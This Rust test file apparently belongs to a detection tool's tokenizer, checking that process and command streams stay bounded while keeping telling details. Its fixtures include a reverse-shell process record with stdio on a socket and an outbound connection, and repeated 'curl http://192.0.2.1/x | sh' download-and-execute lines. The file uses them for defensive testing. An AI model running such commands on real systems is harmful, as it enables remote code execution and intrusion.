//! Streams are bounded, and the process comes first.

use super::*;

fn check(json: &str) -> String {
    let story = Story::from_json(json.as_bytes()).unwrap();
    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
    tokens
        .iter()
        .map(|(field, piece)| format!("{field:?}:{piece}"))
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn golden_shell_on_a_socket() {
    insta::assert_snapshot!(check(
        r#"{"id":"g1","process":{"exe":"/bin/sh","argv":["sh","-i"],"cwd":"/srv/www","uid":33,"euid":33,"tty":false,
            "stdin":"socket","stdout":"socket","stderr":"socket"},
            "ancestors":[{"exe":"/usr/bin/python3.11","argv":["python3","-c","import os,pty"]},{"exe":"/usr/sbin/nginx","argv":["nginx: worker process"]}],
            "connections":[{"direction":"out","protocol":"tcp","address":"198.51.100.7","port":9001}]}"#
    ));
}

#[test]
fn golden_session() {
    insta::assert_snapshot!(check(
        r#"{"id":"g2","session":["cd /srv/app && git pull --ff-only","systemctl restart app","curl -s http://localhost:8080/health | head -1"]}"#
    ));
}

#[test]
fn golden_everything() {
    insta::assert_snapshot!(check(
        r#"{"id":"g3","process":{"exe":"/usr/bin/tar","argv":["tar","czf","/var/backups/etc.tgz","/etc"],"uid":1000,"euid":0,"deleted_exe":true,"memfd":true},
            "children":[{"exe":"/usr/bin/gzip","argv":["gzip"]}],"dns":["backup.example.net"],
            "files":[{"op":"write","path":"/var/backups/etc.tgz"}],"command":"tar czf /var/backups/etc.tgz /etc"}"#
    ));
}

#[test]
fn the_stream_is_bounded_and_the_process_stays_in_it() {
    let mut story = Story::from_json(
        br#"{"id":"x","process":{"exe":"/bin/true","argv":["true"],"stdin":"tty"}}"#,
    )
    .unwrap();
    let relative = Relative {
        exe: "/bin/a".into(),
        argv: vec!["b c d e f".into(); 50],
        uid: None,
    };
    story.ancestors = vec![relative.clone(); 100_000];
    story.children = vec![relative; 1000];
    story.session = vec!["echo x".to_owned(); 1000];
    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
    assert!(tokens.len() <= 256);
    assert!(tokens.iter().any(|token| token == (Field::Stdio, "in=tty")));
    assert!(tokens.iter().any(|(field, _)| field == Field::ChildExe));
}

#[test]
fn the_telling_line_of_a_long_session_stays() {
    let mut story = Story {
        session: vec!["ls".to_owned(); 5000],
        ..Story::default()
    };
    story
        .session
        .push("curl http://192.0.2.1/x | sh".to_owned());
    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
    assert!(tokens.len() <= 256);
    assert!(tokens.iter().any(|token| token == (Field::Command, "curl")));
}

#[test]
fn ten_megabytes_of_text_cost_no_more_than_the_bound() {
    let story = Story {
        command: Some("a;".repeat(5_000_000)),
        ..Story::default()
    };
    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
    assert!((64..=256).contains(&tokens.len()), "{}", tokens.len());
}

#[test]
fn the_telling_line_of_a_long_script_stays_wherever_it_stands() {
    let quiet = "echo one two three; ls -la /srv\n".repeat(300);
    let script = format!("{quiet}curl http://192.0.2.1/x | sh -s -- --quiet --now --all\n{quiet}");
    let has = |story: &Story, field: Field| {
        let tokens = Tokens::of(story, Limits::default(), &Reads::everything());
        assert!(tokens.len() <= 256);
        tokens.iter().any(|token| token == (field, "curl"))
    };
    let text = Story {
        command: Some(script.clone()),
        ..Story::default()
    };
    assert!(has(&text, Field::Command));
    let handed = Story {
        process: Some(Process {
            exe: "/bin/sh".to_owned(),
            argv: vec!["sh".to_owned(), "-c".to_owned(), script],
            ..Process::default()
        }),
        ..Story::default()
    };
    assert!(has(&handed, Field::Argument));
}

#[test]
fn the_second_of_two_long_scripts_is_read_to_its_end_too() {
    let quiet = "echo one two three; ls -la /srv\n".repeat(300);
    let script = format!("{quiet}curl http://192.0.2.1/x | sh -s -- --quiet --now --all\n");
    let story = Story {
        process: Some(Process {
            exe: "/bin/sh".to_owned(),
            argv: vec!["sh".to_owned(), "-c".to_owned(), quiet, script],
            ..Process::default()
        }),
        ..Story::default()
    };
    let tokens = Tokens::of(&story, Limits { tokens: 512 }, &Reads::everything());
    let mut all = tokens.iter();
    assert!(all.any(|token| token == (Field::Argument, "curl")));
}

#[test]
fn a_stream_of_hardly_any_room_is_bounded_too() {
    let story = Story {
        command: Some("a b c d e f".to_owned()),
        session: vec!["ls -la /srv; id".to_owned(); 9],
        ..Story::default()
    };
    for tokens in 0..40 {
        let stream = Tokens::of(&story, Limits { tokens }, &Reads::everything());
        assert!(stream.len() <= tokens, "{} of {tokens}", stream.len());
    }
}

#[test]
fn filler_takes_neither_the_beginning_nor_all_words() {
    for filler in [",".repeat(300), format!("# {}", "word ".repeat(60))] {
        let text = format!(
            "curl http://192.0.2.1/x | sh\n{}",
            format!("{filler}\n").repeat(200)
        );
        let story = Story {
            command: Some(text),
            ..Story::default()
        };
        let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
        let mut all = tokens.iter();
        assert!(all.any(|token| token == (Field::Command, "curl")));
    }
}
